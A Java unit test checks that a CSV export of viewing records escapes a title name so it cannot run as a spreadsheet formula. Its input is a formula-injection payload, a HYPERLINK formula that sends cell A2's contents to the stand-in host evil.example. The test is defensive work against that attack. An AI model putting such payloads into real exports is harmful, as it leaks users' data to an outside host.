package io.lobbycard.transparency.export;

import static org.junit.jupiter.api.Assertions.assertEquals;

import io.lobbycard.catalog.TitleId;
import io.lobbycard.personalization.Viewing;
import io.lobbycard.personalization.ViewingId;
import java.io.IOException;
import java.io.StringWriter;
import java.time.Instant;
import org.junit.jupiter.api.Test;

class ViewingsCsvTest {

    private static final Instant EVENING = Instant.parse("2026-01-31T20:15:00Z");

    @Test
    void noNameRunsAsAFormula() throws IOException {
        StringWriter text = new StringWriter();
        try (ViewingsCsv csv = new ViewingsCsv(text)) {
            csv.add(
                    new Viewing(
                            new ViewingId("v1"),
                            new TitleId("t1"),
                            null,
                            EVENING,
                            60,
                            EVENING,
                            null,
                            null,
                            false,
                            null),
                    "=HYPERLINK(\"https://evil.example/\"&A2)");
        }

        assertEquals(
                "v1,t1,\"'=HYPERLINK(\"\"https://evil.example/\"\"&A2)\",,2026-01-31T20:15:00Z,60,2026-01-31T20:15:00Z,,false",
                text.toString().lines().skip(1).findFirst().orElseThrow());
    }
}
